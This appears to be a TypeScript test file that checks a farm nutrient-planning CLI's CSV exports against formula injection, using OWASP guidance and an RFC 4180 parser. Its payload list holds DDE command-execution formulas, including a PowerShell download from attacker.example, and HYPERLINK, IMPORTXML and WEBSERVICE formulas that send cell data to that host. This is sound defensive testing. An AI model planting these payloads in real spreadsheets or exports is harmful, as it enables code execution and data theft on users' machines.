// Formula injection in exports: OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection:
// cells starting with = + - @ tab or CR are run as formulas; prefix them with a single quote and
// quote every cell that holds the delimiter or a quote), OWASP ASVS 5.0 V1.2.10 (CSV and formula
// injection), RFC 4180 §2 (quoting, doubled quotes, CRLF). Exports are read back with csv-parse, an
// independent RFC 4180 reader, and every cell judged as a spreadsheet would.
import { parse } from 'csv-parse/sync'
import { readFileSync, readdirSync, writeFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { formatCsvCell, writeCsv } from '../../shared/csv-write.ts'
import { runCli } from '../helpers/cli.ts'
import { makeTempDir, type TempDir } from '../helpers/temp-db.ts'

// OWASP's examples, the payloads of public CSV-injection lists, and the tricks around them
// (leading blanks, other delimiters, quotes); invented addresses only.
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/s.exe)'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  '+HYPERLINK("http://attacker.example","open")',
  '-HYPERLINK("http://attacker.example","open")',
  '@HYPERLINK("http://attacker.example","open")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A1:B9)),"//a")',
  '=IMPORTDATA("http://attacker.example/a.csv")',
  '=IMPORTRANGE("https://attacker.example/sheet","A1:Z99")',
  '=IMPORTFEED("http://attacker.example/feed")',
  '=IMPORTHTML("http://attacker.example","table",1)',
  '=IMAGE("http://attacker.example/pixel.png")',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  '=INFO("directory")',
  '=INDIRECT("A1")',
  "='file:///etc/passwd'#$passwd.A1",
  '=A1',
  '="=1+1"',
  '=1+1;=2+2',
  '=1+1,=2+2',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\t=1+1',
  '\r=1+1',
  '=1+1\r\n=2+2',
  '"=1+1"',
  'x",=1+1,"y',
  'x";=1+1;"y',
  '-',
  '+44 20 7946 0958',
  '-5 °C at sampling',
  '@farm crew',
  '=0x41',
]

/** Whether a spreadsheet would run the cell as a formula (OWASP: = + - @ tab CR, after blanks); a plain number such as -3.5 is a number. */
function spreadsheetWouldRun(cell: string): boolean {
  if (/^-?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(cell)) return false
  return /^[\t\r]/.test(cell) || /^[\s\u00a0\u200b\ufeff]*[=+\-@]/.test(cell)
}

describe('the CSV writer', () => {
  it(`neutralizes ${payloads.length} formula payloads, keeps their text and quotes them by RFC 4180`, () => {
    expect(payloads.length).toBeGreaterThanOrEqual(40)
    const text = writeCsv([['name', 'amount', 'balance'], ...payloads.map((p) => [p, 1.5, -12.25])])
    expect(text.endsWith('\r\n')).toBe(true)
    const rows = parse(text, { bom: true, relax_column_count: false }) as string[][]
    expect(rows).toHaveLength(payloads.length + 1)
    const run: string[] = []
    payloads.forEach((p, i) => {
      const [cell, amount, balance] = rows[i + 1]!
      if (spreadsheetWouldRun(cell!)) run.push(JSON.stringify(cell))
      expect(cell === p || cell === `'${p}`, JSON.stringify(p)).toBe(true)
      // numbers stay numbers: no quote mark, no apostrophe, the sign kept
      expect([amount, balance]).toEqual(['1.5', '-12.25'])
    })
    expect(run).toEqual([])
  })

  it('writes numbers as numbers, negative ones too, and leaves non-finite numbers empty', () => {
    for (const [value, text] of [[0, '0'], [-3.5, '-3.5'], [1234567.891, '1234567.891'], [-0.001, '-0.001'], [1e21, '1e+21'], [Number.NaN, ''], [Number.POSITIVE_INFINITY, '']] as const) {
      expect(formatCsvCell(value)).toBe(text)
    }
    // the same digits as text are text: a name "-5" must not turn into a number or a formula
    expect(formatCsvCell('-5')).toBe("'-5")
  })

  it('quotes the delimiter of the file it writes, so a payload cannot start a new cell', () => {
    for (const delimiter of [',', ';', '\t'] as const) {
      const text = writeCsv([['a', 'x;=1+1', 'y,=2+2', 'z\t=3+3']], { delimiter })
      const rows = parse(text, { delimiter, relax_column_count: false }) as string[][]
      expect(rows[0]).toHaveLength(4)
      expect(rows[0]!.filter(spreadsheetWouldRun)).toEqual([])
    }
  })
})

let tmp: TempDir
beforeAll(() => {
  tmp = makeTempDir('pitside-csv-injection-')
})
afterAll(() => tmp?.cleanup())

const q = (v: string | number) => `"${String(v).replaceAll('"', '""')}"`
const csv = (rows: (string | number)[][]) => rows.map((r) => r.map(q).join(',')).join('\r\n') + '\r\n'

describe('exports with payloads in names and notes', () => {
  it('open safely: no cell would run, every payload survives as text, numbers stay numbers', async () => {
    const db = tmp.path('inject.db')
    const cli = async (args: string[]) => {
      const r = await runCli(['--db', db, '-q', ...args])
      if (r.exitCode !== 0) throw new Error(`pitside ${args.join(' ')}: ${r.stderr}`)
      return r
    }
    const file = (name: string, text: string) => {
      writeFileSync(tmp.path(name), text)
      return tmp.path(name)
    }
    const P = (i: number) => payloads[i % payloads.length]!
    await cli(['init'])
    await cli(['farms', 'import', '--org', 'loamridge', '--org-name', 'Loamridge Nutrient Advisors', file('farms.csv', csv([
      ['farm', 'name', 'operator_name', 'notes'],
      ['INJ', P(0), P(1), P(2)],
    ]))])
    await cli(['storages', 'import', file('storages.csv', csv([
      ['farm', 'storage', 'kind', 'species', 'form', 'name', 'capacity', 'capacity_unit', 'current_amount', 'current_amount_on', 'notes'],
      ['INJ', 'PIT', 'deep_pit', 'swine', 'liquid', P(3), 900000, 'gal', 700000, '2026-11-01', P(4)],
    ]))])
    const fieldCount = 12
    await cli(['fields', 'import', file('fields.csv', csv([
      ['farm', 'field', 'acres', 'season', 'crop', 'yield_goal', 'previous_crop', 'soil_test_p_ppm', 'soil_test_p_method', 'soil_test_k_ppm', 'storage', 'method', 'incorporated_within_hours', 'name', 'notes'],
      ...Array.from({ length: fieldCount }, (_, i) => [`INJ`, `F${i + 1}`, 20 + i, 2027, 'corn_grain', 180, 'soybean', 40, 'mehlich3', 180, 'PIT', 'injected', '', P(5 + i), P(5 + fieldCount + i)]),
      // last season too, so that planned against actual has a plan (and applications below it: negative differences)
      ...Array.from({ length: 6 }, (_, i) => [`INJ`, `F${i + 1}`, 20 + i, 2026, 'corn_grain', 180, 'soybean', 40, 'mehlich3', 180, 'PIT', 'injected', '', P(5 + i), P(5 + fieldCount + i)]),
    ]))])
    const labRows = payloads.length
    await cli(['labs', 'import', file('labs.csv', csv([
      ['report_id', 'sample_id', 'sampled_on', 'farm', 'storage', 'form', 'species', 'basis', 'units', 'dry_matter_pct', 'total_n', 'ammonium_n', 'p2o5', 'k2o', 'lab', 'notes'],
      // one report per row: the lab's name is kept per report
      ...Array.from({ length: 3 }, (_, i) => ['CRA-25-0990', `INJ-PIT-2025-${i + 1}`, '2025-10-06', 'INJ', 'PIT', 'liquid', 'swine', 'as_is', 'lb/1000 gal', 5.9, 54, 37, 31, 28, 'Cobble Run Analytical', '']),
      ...Array.from({ length: labRows }, (_, i) => [`CRA-26-09${String(i).padStart(2, '0')}`, `INJ-PIT-${i + 1}`, `2026-10-${String(1 + (i % 20)).padStart(2, '0')}`, 'INJ', 'PIT', 'liquid', 'swine', 'as_is', 'lb/1000 gal', 5.8, 52 + (i % 5), 36, 30, 27, P(i + 7), P(i)]),
    ]))])
    await cli(['applications', 'import', file('applications.csv', csv([
      ['farm', 'field', 'applied_on', 'storage', 'amount', 'amount_unit', 'method', 'applicator', 'notes'],
      ...Array.from({ length: 6 }, (_, i) => ['INJ', `F${i + 1}`, `2026-04-${String(10 + i)}`, 'PIT', 60000 + i * 1000, 'gal', 'injected', P(30 + i), P(36 + i)]),
    ]))])
    await cli(['plan', '--farm', 'INJ', '--season', '2026', '--as-of', '2026-03-01', '--by', P(8)])
    await cli(['plan', '--farm', 'INJ', '--season', '2027', '--as-of', '2026-11-20', '--by', P(9)])
    const plans = JSON.parse(String((await runCli(['--db', db, '--json', 'plans', 'list'])).stdout)) as { plans: { id: number }[] } | { id: number }[]
    const planId = (Array.isArray(plans) ? plans : plans.plans)[0]!.id
    const exports: Record<string, string> = {}
    exports['export.csv'] = String((await cli(['export', String(planId), '--format', 'csv'])).stdout)
    exports['plan --csv'] = String((await cli(['plan', '--farm', 'INJ', '--season', '2027', '--as-of', '2026-11-20', '--csv'])).stdout)
    for (const season of ['2026', '2027']) {
      const dir = tmp.path(`records-${season}`)
      await cli(['records', 'export', '--farm', 'INJ', '--season', season, '--out-dir', dir])
      for (const f of readdirSync(dir).filter((f) => f.endsWith('.csv'))) exports[`records ${season}/${f}`] = readFileSync(`${dir}/${f}`, 'utf8')
    }

    const cells: string[] = []
    const run: string[] = []
    const numbersAsText: string[] = []
    let numeric = 0
    let negative = 0
    for (const [name, text] of Object.entries(exports)) {
      const rows = parse(text, { bom: true, relax_column_count: false }) as string[][]
      expect(rows.length, name).toBeGreaterThan(0) // a header at least
      for (const row of rows.slice(1)) {
        for (const cell of row) {
          cells.push(cell)
          if (spreadsheetWouldRun(cell)) run.push(`${name}: ${JSON.stringify(cell)}`)
          if (/^'-?\d+(\.\d+)?$/.test(cell)) numbersAsText.push(`${name}: ${cell}`)
          if (/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)) numeric++
          if (/^-\d/.test(cell)) negative++
        }
      }
    }
    expect(run).toEqual([])
    expect(numeric).toBeGreaterThan(100)
    // the payloads that reached an export, each as its text behind the apostrophe (imports trim blanks)
    const found = payloads.filter((p) => cells.some((c) => c === `'${p.trim()}` || c === p.trim()))
    expect(found.length, `payloads found in the exports: ${found.length}`).toBeGreaterThanOrEqual(40)
    process.stdout.write(`csv-injection: ${JSON.stringify({ payloads: payloads.length, found_in_exports: found.length, files: Object.keys(exports).length, cells: cells.length, numeric_cells: numeric, negative_numbers: negative, numbers_as_text: numbersAsText.length })}\n`)
    expect(numbersAsText).toEqual([])
    expect(negative).toBeGreaterThan(0) // e.g. planned against actual: less applied than planned
  }, 120_000)
})
